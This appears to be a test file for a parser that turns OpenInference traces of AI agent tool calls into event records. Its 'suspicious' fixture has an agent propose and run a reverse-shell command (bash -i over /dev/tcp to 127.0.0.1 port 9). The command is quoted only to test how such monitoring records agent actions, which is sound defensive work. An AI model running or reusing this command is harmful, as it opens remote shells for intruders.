import { fixture, line, tell } from '../../test/support/recorded';
import type { AgentEvent } from '../../contracts/event';

const about = (events: readonly AgentEvent[], text: string) => events.map(line).filter((one) => one.includes(text));

describe.each([
  ['openai', 'OpenAI Chat Completions'],
  ['agents', 'response'],
])('%s', (name, model) => {
  const { events } = tell(fixture(`openinference/${name}-suspicious-full`));

  it('tells a call as asked for, as run and as answered, all with the same content', () => {
    expect(about(events, '/dev/tcp/127.0.0.1/9').sort()).toEqual(
      [
        `${model} proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'`,
        `${model} completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (exit 1)`,
        "bash completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
      ].sort(),
    );
    // Tool spans have no id: the ids of the conversation are left out, so that the three meet.
    expect(events.filter(({ action }) => action.type === 'exec').map(({ callId }) => callId)).not.toContainEqual(
      expect.any(String),
    );
  });

  it('gives one outcome whichever record tells it', () => {
    const outcomes = events.filter((event) => line(event).includes('/dev/tcp/127.0.0.1/9') && event.outcome);
    expect(new Set(outcomes.map(({ outcome }) => outcome?.output)).size).toBe(1);
  });

  it('keys by the trace, since the session is on the root span alone', () => {
    expect(new Set(events.map(({ scope }) => scope.slice(0, 6)))).toEqual(new Set(['trace:']));
    expect(new Set(events.map(({ scope }) => scope)).size).toBe(1);
  });

  it('tells a repeated conversation once', () => {
    const first = about(events, 'simulated: bash -i');
    expect(first).toHaveLength(3);
    expect(events.filter(({ action }) => action.type === 'prompt')).toHaveLength(1);
  });
});

describe('without tool spans', () => {
  const [request] = fixture('openinference/openai-suspicious-full');
  const records = (request?.records ?? []).filter((one) => one.attributes['openinference.span.kind'] !== 'TOOL');
  const { events } = tell([{ signal: 'traces', records, losses: [] }]);

  it('takes the call that was answered as the act', () => {
    expect(about(events, '/dev/tcp/127.0.0.1/9')).toEqual([
      "OpenAI Chat Completions proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
      "OpenAI Chat Completions completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (exit 1)",
    ]);
  });

  it('reads the flattened messages when the request as a whole is hidden', () => {
    const hidden = records.map((one) => ({ ...one, attributes: { ...one.attributes, 'input.value': '__REDACTED__' } }));
    expect(tell([{ signal: 'traces', records: hidden, losses: [] }]).events.map(line)).toEqual(events.map(line));
  });

  it('reads the request as a whole when the exporter dropped the flattened messages', () => {
    const cut = records.map((one) => {
      const kept = Object.entries(one.attributes).filter(([key]) => !/^llm\.(?:input|output)_messages/.test(key));
      return { ...one, attributes: Object.fromEntries(kept) };
    });
    expect(tell([{ signal: 'traces', records: cut, losses: [] }]).events.map(line)).toEqual(events.map(line));
  });
});

describe('LangChain’s instrumentation', () => {
  const { events, ignored } = tell(fixture('openinference/langchain'));

  it('reads arguments printed by Python, arguments in place of a schema, and flattened calls', () => {
    expect(events.map(line)).toEqual([
      "terminal completed: exec command=echo 'it's' (ok)",
      'terminal completed: exec (ok)',
      'run_shell completed: exec command=git push (ok)',
      'run_shell completed: exec (ok)',
      'ChatModel completed: model.call provider=anthropic model=some-model inputTokens=10 outputTokens=2 cost={"amount":0.0125,"unit":"USD"} (ok)',
      'ChatModel completed: prompt text=Clean up. origin=unknown',
      'ChatModel proposed: exec command=ls',
      'ChatModel proposed: exec command=pwd',
    ]);
    expect(ignored).toEqual([{ dialect: 'openinference', reason: 'internal', count: 1 }]);
  });

  it('says what hides the content', () => {
    expect(events[1]?.visibility).toEqual([
      { field: 'outcome.output', state: 'hidden', setting: 'OPENINFERENCE_HIDE_OUTPUTS=false' },
      { field: 'action.command', state: 'hidden', setting: 'OPENINFERENCE_HIDE_INPUTS=false' },
    ]);
  });
});
